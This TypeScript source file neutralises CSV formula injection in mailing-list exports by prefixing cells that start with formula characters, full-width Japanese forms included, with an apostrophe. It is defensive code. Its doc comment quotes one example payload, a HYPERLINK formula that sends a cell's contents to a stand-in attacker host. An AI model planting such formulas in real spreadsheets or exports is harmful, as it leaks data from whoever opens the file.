/**
 * CSV cells that a spreadsheet would not run. Excel, LibreOffice and Google Sheets read a cell that
 * starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a store
 * label such as `=HYPERLINK("https://evil.example/?"&A2,"Click")` in a recipients file would become a
 * live link, or worse, in the notices file an operator opens to check the mailing (OWASP, "CSV
 * Injection"). Japanese Excel also takes the full-width `＝＋－＠` typed with an IME as formula signs.
 * Such a cell gets a leading `'`, which every one of them shows as text and does not evaluate. The
 * prefix stays in the value: a mail merge sends exactly what the cell holds, so an address that starts
 * with one of these characters must be looked at by hand.
 */
/** The characters that make a spreadsheet treat a cell as a formula when they come first. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/**
 * The cell as a spreadsheet will show it, never run it.
 *
 * @example
 * csvSafe('=HYPERLINK("https://x.example")')  // "'=HYPERLINK(\"https://x.example\")"
 * csvSafe('＠SUM(A1)')                         // "'＠SUM(A1)"
 * csvSafe('affected@example.com')              // unchanged
 */
export function csvSafe(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * csv-stringify's `cast` option that neutralises every string cell (numbers, booleans and dates are
 * written by the library and cannot start a formula).
 *
 * @example
 * stringify(rows, { header: true, cast: csvSafeCast })
 */
export const csvSafeCast = { string: (value: string) => csvSafe(value) };
